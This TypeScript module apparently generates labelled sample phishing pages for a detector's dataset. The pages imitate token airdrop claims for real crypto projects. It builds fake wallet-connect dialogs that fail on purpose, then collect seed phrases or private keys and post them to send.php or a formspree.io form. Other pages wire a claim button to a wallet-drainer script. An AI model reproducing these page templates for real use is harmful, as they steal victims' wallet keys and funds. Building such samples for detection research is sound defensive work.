import type { Family } from '../family.ts'
import type { Chance } from '../make/chance.ts'
import { detour, lureUrl, type Target } from '../make/hosts/by-target.ts'
import { escaped } from '../make/pages/layout.ts'
import { disguised, sheetOf } from '../make/pages/sheets.ts'
import { CLAIM_WORDS, type ClaimWords } from './claim-words.ts'
import { drainOf } from './drains.ts'

/** Projects that are copied to hand out what does not exist; not all of them are known to everybody. */
const PROJECTS: readonly (Target & { readonly token: string })[] = [
  { name: 'Uniswap', domain: 'uniswap.org', label: 'uniswap', token: 'UNI' },
  { name: 'OpenSea', domain: 'opensea.io', label: 'opensea', token: 'SEA' },
  { name: 'PancakeSwap', domain: 'pancakeswap.finance', label: 'pancakeswap', token: 'CAKE' },
  { name: 'MetaMask', domain: 'metamask.io', label: 'metamask', token: 'MASK' },
  { name: 'Phantom', domain: 'phantom.com', label: 'phantom', token: 'PHTM' },
  { name: 'Jupiter', domain: 'jup.ag', label: 'jupiter', token: 'JUP' },
  { name: 'Lido', domain: 'lido.fi', label: 'lido', token: 'LDO' },
  { name: 'LayerZero', domain: 'layerzero.foundation', label: 'layerzero', token: 'ZRO' },
  { name: 'Hyperliquid', domain: 'hyperliquid.xyz', label: 'hyperliquid', token: 'HYPE' },
  { name: 'Trust Wallet', domain: 'trustwallet.com', label: 'trustwallet', token: 'TWT' },
]
const WALLETS = [
  'MetaMask',
  'Trust Wallet',
  'Coinbase Wallet',
  'Phantom',
  'Rabby',
  'Ledger Live',
  'Exodus',
  'OKX Wallet',
  'Safe',
]
const BAITS = [
  'claim',
  'airdrop',
  'season2',
  'migrate',
  'rewards',
  'eligibility',
  'distribution',
  'stake',
  'refund',
  'app',
]

/** A list of wallets none of which ever connects; then it asks for the key. */
function dialog(words: ClaimWords, chance: Chance): readonly [main: string, script: string] {
  const list = chance
    .some(WALLETS, 4 + chance.below(5))
    .map(
      (wallet) =>
        `<li data-w="${wallet}"><img src="w/${wallet.toLowerCase().replaceAll(' ', '-')}.png" alt="${wallet}"><span>${wallet}</span></li>`,
    )
    .join('')
  const name = chance.of(['data', 'k', 'phrase', 'val', 'import'])
  const ask = chance.of([
    () => `<textarea name="${name}" placeholder="${escaped(words.phrase)}"></textarea>`,
    () =>
      `<div class="tab">${escaped(words.phrase)}</div><textarea name="${name}"></textarea><div class="tab">${escaped(words.key)}</div><input name="pk" type="password" placeholder="0x…">`,
    () =>
      `<p>${escaped(words.phrase)}</p><div class="grid">${Array.from({ length: chance.of([12, 24]) }, (_, index) => `<input name="${name}[]" placeholder="${index + 1}" autocomplete="off">`).join('')}</div>`,
    () =>
      `<select><option>${escaped(words.phrase)}</option><option>${escaped(words.key)}</option><option>Keystore</option></select><textarea name="${name}" rows="3" placeholder="${escaped(words.phrase)}"></textarea>`,
  ])()
  const to = chance.of([
    'action="send.php" method="post"',
    'action="" method="post"',
    `action="https://formspree.io/f/${chance.letters(8)}" method="post"`,
    'onsubmit="return give(this)"',
  ])
  const main = `<button id="open">${escaped(words.connect)}</button><div class="modal" id="m" hidden><h4>WalletConnect</h4><ul>${list}</ul><div id="x" hidden><p class="err">${escaped(words.failed)}</p><form ${to}>${ask}<button>${escaped(words.connect)}</button></form></div></div>`
  const script = `document.getElementById("open").onclick=function(){m.hidden=false};document.querySelectorAll("#m li").forEach(function(l){l.onclick=function(){l.classList.add("spin");setTimeout(function(){x.hidden=false},${1500 + chance.below(3000)})}});function give(f){fetch("/${chance.letters(5)}",{method:"POST",body:new FormData(f)});return false}`
  return [main, script]
}

/** A button at which the wallet opens, and the code behind it. */
function button(words: ClaimWords, code: string, chance: Chance): readonly [main: string, script: string] {
  const id = chance.of(['claim', 'cta', 'connectButton', 'go'])
  const main = `<div class="card"><button id="${id}" class="btn-main">${escaped(chance.of([words.claim, words.connect]))}</button><p class="small">${escaped(words.connect)} → ${escaped(words.claim)}</p></div>`
  const script = chance.of([
    `document.getElementById("${id}").addEventListener("click",async function(){${code}});`,
    `const run=async()=>{try{${code}}catch(e){if(e.code===4001)return run()}};document.getElementById("${id}").onclick=run;`,
    `(()=>{async function a(){${code}}document.addEventListener("click",e=>{if(e.target.closest("#${id}"))a()})})();`,
  ])
  return [main, script]
}

export const tokenClaimKit: Family = {
  id: 'token_claim_kit',
  expected: 'dangerous',
  split: 'dev',
  make(chance) {
    const words = chance.of([...CLAIM_WORDS, ...CLAIM_WORDS.slice(0, 1)])
    const known = chance.maybe(0.65) ? chance.of(PROJECTS) : null
    const token = known?.token ?? chance.letters(3 + chance.below(2)).toUpperCase()
    const name =
      known?.name ??
      `${chance.name(2).replace(/^./, (first) => first.toUpperCase())} ${chance.of(['Labs', 'Network', 'Protocol', 'DAO'])}`
    const lure = chance.of(words.lure).replace('{t}', chance.of([`$${token}`, token]))
    const isAsking = chance.maybe(0.25)
    const drain = drainOf(chance)
    const [inner, script] = isAsking ? dialog(words, chance) : button(words, drain.code, chance)
    const count = `<p>${escaped(words.until)} <b id="t">0${chance.below(9)}:${10 + chance.below(50)}:${10 + chance.below(50)}</b></p>`
    const rows = `<ul><li>${100 + chance.below(9000)}.${chance.digits(2)} ${token}</li><li>≈ $${chance.digits(4)}</li></ul>`
    const title = disguised(name, chance)
    const isModule = chance.maybe(0.2) && !isAsking
    const body = sheetOf(
      {
        language: words.language,
        title: chance.of([title, `${title} | ${escaped(words.claim)}`, `$${token} ${escaped(words.claim)}`]),
        head: `<meta property="og:title" content="${escaped(lure)}"><meta name="twitter:card" content="summary_large_image">`,
        top: `<img src="${chance.of(['logo.svg', '/img/token.png', `https://assets.coingecko.com/coins/images/${chance.digits(5)}/small/logo.png`])}" alt="${title}">`,
        heading: lure,
        main: `${chance.maybe(0.6) ? rows : ''}${inner}${chance.maybe(0.6) ? count : ''}`,
        foot: `<a href="#">X</a> <a href="#">Discord</a> <a href="#">Docs</a> © ${title}`,
        scripts: `${isAsking ? '' : drain.library}<script${isModule ? ' type="module"' : ''}>${script}</script>`,
      },
      true,
      chance,
    )
    const url = lureUrl(
      known,
      BAITS,
      chance.of(['', '', 'claim', 'index.html', `?r=${chance.letters(6)}`]),
      chance,
    )
    return { url, body, way: detour(url, chance), isHonest: false }
  },
}
